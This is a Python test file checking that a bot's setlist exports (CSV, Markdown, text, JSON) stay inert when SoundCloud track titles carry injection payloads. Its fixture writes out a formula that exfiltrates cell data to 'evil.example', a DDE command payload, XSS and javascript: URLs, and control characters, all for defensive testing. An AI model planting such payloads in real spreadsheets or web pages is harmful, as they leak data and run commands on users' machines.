"""Setlist exports stay inert whatever a SoundCloud uploader puts in a title: parsed back."""

from __future__ import annotations

import csv
import io
import unicodedata
from datetime import UTC, datetime, timedelta

import pytest

from ntrbot.store import setlist
from ntrbot.store.models import Show, ShowTrack, Track

START = datetime(2026, 3, 12, 2, 0, tzinfo=UTC)
NASTY = [
    Track(1, '=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0",
          "https://soundcloud.com/a/one", license="@SUM(1+1)"),
    Track(2, "<img src=x onerror=alert(1)> | broken | table", "-2+3",
          "https://soundcloud.com/b/two?x=1&y=(2)"),
    Track(3, "\tTabbed\r\nsecond line\x1b[31mred\x00", "Evil\u202eReversed",
          "javascript:alert(1)"),
    Track(4, "**bold** _it_ [link](http://x) `code` # ~~s~~ \\ ", "A & B <b>",
          "https://soundcloud.com/c/three"),
    Track(5, "  =1+1", "\rCR artist", "https://soundcloud.com/d/four"),
]


@pytest.fixture
def show() -> Show:
    return Show(7, START, START + timedelta(days=7), None,
                [ShowTrack(i, t, START + timedelta(hours=i)) for i, t in enumerate(NASTY, 1)])


def _render(show: Show, fmt: str) -> str:
    return setlist.render(show, setlist.build(show, []), fmt)


def test_csv_cells_are_never_formulas(show: Show) -> None:
    rows = list(csv.reader(io.StringIO(_render(show, "csv"))))
    header, body = rows[0], rows[1:]
    assert len(body) == len(NASTY) and all(len(r) == len(header) for r in body)
    cols = [header.index(name) for name in ("title", "artist", "url", "license")]
    for row, track in zip(body, NASTY, strict=True):
        for col in cols:
            cell = row[col]
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
        # the text itself is kept, behind the quote
        assert row[cols[0]].removeprefix("'") == track.title
        assert row[cols[1]].removeprefix("'") == track.artist
    assert body[0][cols[0]] == "'" + NASTY[0].title
    assert body[0][cols[3]] == "'@SUM(1+1)"


def test_markdown_escapes_html_and_keeps_the_table(show: Show) -> None:
    markdown_it = pytest.importorskip("markdown_it")
    text = _render(show, "md")
    lines = text.splitlines()
    assert "<" not in text.replace("&lt;", "")  # no raw HTML at all
    table = [line for line in lines if line.startswith("|")]
    assert len(table) == 2 + len(NASTY)  # header, rule, one line per track: no breakage
    html = markdown_it.MarkdownIt("commonmark").enable("table").render(text)
    assert html.count("<tr>") == 1 + len(NASTY)
    for tr in html.split("<tr>")[2:]:
        assert tr.count("<td>") == 5, tr
    assert "<img" not in html and "<b>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt; | broken | table" in html
    assert "<strong>" not in html and "<em>" not in html and "<code>" not in html
    assert "**bold** _it_ [link](http://x) `code` # ~~s~~ \\" in html
    assert 'href="javascript' not in html and "javascript:alert(1)" not in html
    assert html.count("<a href=") == len(NASTY) - 1  # the javascript: URL is no link
    assert 'href="https://soundcloud.com/b/two?x=1&amp;y=%282%29"' in html
    assert "\u202e" not in text and "\x1b" not in text


def test_txt_has_no_control_characters(show: Show) -> None:
    text = _render(show, "txt")
    assert not [c for c in text if unicodedata.category(c) == "Cc" and c != "\n"]
    assert "\u202e" not in text
    body = text.splitlines()[2:]
    assert len(body) == len(NASTY)  # one line per track, whatever the titles hold
    assert "Tabbed" in body[2] and "second line" in body[2]


def test_json_is_unchanged_data(show: Show) -> None:
    import json

    data = json.loads(_render(show, "json"))
    assert [r["title"] for r in data["setlist"]] == [t.title for t in NASTY]
